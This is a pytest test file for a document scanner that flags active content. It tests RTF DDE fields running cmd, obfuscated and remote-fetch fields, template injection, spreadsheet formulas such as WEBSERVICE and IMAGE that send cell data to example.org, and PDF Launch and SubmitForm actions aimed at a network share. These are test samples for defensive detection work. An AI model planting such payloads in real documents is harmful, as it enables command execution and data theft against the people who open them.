"""R6: which instructions in documents and tables fetch something, or take something out."""

from __future__ import annotations

import io

import pikepdf
import pytest

from detectors.base import Content, Finding, Kind
from detectors.documents import Documents
from tests.detectors.built import pdf, zipped

ACTIVE = {(Kind.DANGEROUS_FILE, "active")}
SHEET = "<worksheet><sheetData><row><c><f>{}</f></c></row></sheetData></worksheet>"


def labels(name, blob):
    found = Documents().look(Content(blob=blob, name=name, where=name))
    return {(f.kind, f.label) for f in found if isinstance(f, Finding)}


def rtf(instruction):
    return rb"{\rtf1 hello {\field{\*\fldinst " + instruction + rb"}{\fldrslt x}}}"


def xlsx(formula, sheet=SHEET):
    sheets = {"[Content_Types].xml": "<Types/>", "xl/workbook.xml": "<workbook/>"}
    return zipped({**sheets, "xl/worksheets/sheet1.xml": sheet.format(formula)})


def pdf_with(kind, target):
    with pikepdf.open(io.BytesIO(pdf())) as document:
        action = pikepdf.Dictionary(S=pikepdf.Name(f"/{kind}"), F=pikepdf.String(target))
        document.Root.OpenAction = document.make_indirect(action)
        out = io.BytesIO()
        document.save(out)
    return out.getvalue()


@pytest.mark.parametrize(
    "blob",
    [
        rtf(rb"DDE cmd x"),
        rtf(rb" {D}{DE cmd x}"),
        rtf(rb"\'44\u68?E cmd x"),
        rtf(rb"DDEAUTO cmd x"),
        rtf(rb'INCLUDEPICTURE "http://example.org/a.png"'),
        rtf(rb'{INCLUDE}{PICTURE} \\d "\\\\\\\\host\\\\share\\\\a.png"'),
        rtf(rb"INCLUDETEXT file://host/share/a.docx"),
        rtf(rb'IMPORT "\\\\host\\share\\a.png"'),
        rtf(rb'HYPERLINK "\\\\\\\\host\\\\share\\\\x.exe"'),
        rtf(rb'HYPERLINK "file:///c:/windows/calc.exe"'),
        rb"{\rtf1{\*\template http://example.org/x.dotm}}",
        rb"{\rtf1{\*\template \'68ttp://example.org/x.dotm}}",
        rb"{\rtf1{\object\objemb{\*\objdata 0105}}}",
    ],
)
def test_a_field_that_starts_or_fetches_something_is_dangerous(blob):
    assert labels("a.rtf", blob) == ACTIVE


@pytest.mark.parametrize(
    "blob",
    [
        rb"{\rtf1 DDE is old. INCLUDEPICTURE fetches http://example.org}",
        rtf(rb'HYPERLINK "https://example.org/DDE"'),
        rtf(rb"PAGE"),
        rtf(rb'INCLUDEPICTURE "cat.png"'),
        rtf(rb""),
    ],
)
def test_a_field_that_stays_in_the_file_is_no_danger(blob):
    assert labels("a.rtf", blob) == set()


@pytest.mark.parametrize(
    "cell",
    [
        '=WEBSERVICE("http://example.org")',
        '"=WEBSERVICE(""http://example.org/?""&A1)"',
        '=IMAGE("http://example.org/?"&A1)',
        '"=HYPERLINK(""http://example.org/?""&A1;""x"")"',
        '+hyperlink(CONCATENATE("http://example.org/?",A1),"x")',
        '@IMAGE("http://example.org/?"&A1)',
        '=1+IMAGE("http://example.org/?"&A1)',
        '=IF(A1=1,HYPERLINK("http://example.org/?"&A1),2)',
    ],
)
def test_a_cell_that_sends_others_to_a_page_is_dangerous(cell):
    assert labels("a.csv", f"name,points\nmaya,{cell}\n".encode()) == ACTIVE
    assert labels("a.csv", f"{cell}\n".encode()) == ACTIVE


@pytest.mark.parametrize(
    "cell",
    [
        '=HYPERLINK("https://example.org/?a=1&b=2")',
        '=HYPERLINK("https://example.org","x")\nfish & chips',
        "=SUM(A1:A9)",
        "we learned HYPERLINK( and & today",
        "-3 image (blue & green)",
        "-3,image (blue & green)",
        "cats & dogs",
    ],
)
def test_a_cell_that_stays_where_it_is_is_no_danger(cell):
    assert labels("a.csv", f"name,points\nmaya,{cell}\n".encode()) == set()


@pytest.mark.parametrize(
    "blob",
    [
        xlsx('HYPERLINK("http://example.org/?"&amp;A1)'),
        xlsx('_xlfn.IMAGE("http://example.org/?"&#38;A1)'),
        xlsx('_xlfn.WEBSERVICE("http://example.org")', SHEET.replace("f>", "x:f>")),
        xlsx("WEBSERVICE(A1)", SHEET.replace("<f>", "<f a='>'>")),
    ],
)
def test_a_formula_of_a_sheet_that_sends_cells_to_a_page_is_dangerous(blob):
    assert labels("a.xlsx", blob) == ACTIVE


def test_a_formula_that_links_to_a_page_is_no_danger():
    assert labels("a.xlsx", xlsx('HYPERLINK("https://example.org/?a=1&amp;b=2","x")')) == set()


@pytest.mark.parametrize("kind", ["GoToR", "GoToE", "Launch", "ImportData", "SubmitForm"])
def test_a_pdf_that_opens_or_sends_something_is_dangerous(kind):
    assert labels("a.pdf", pdf_with(kind, "\\\\host\\share\\x")) == ACTIVE
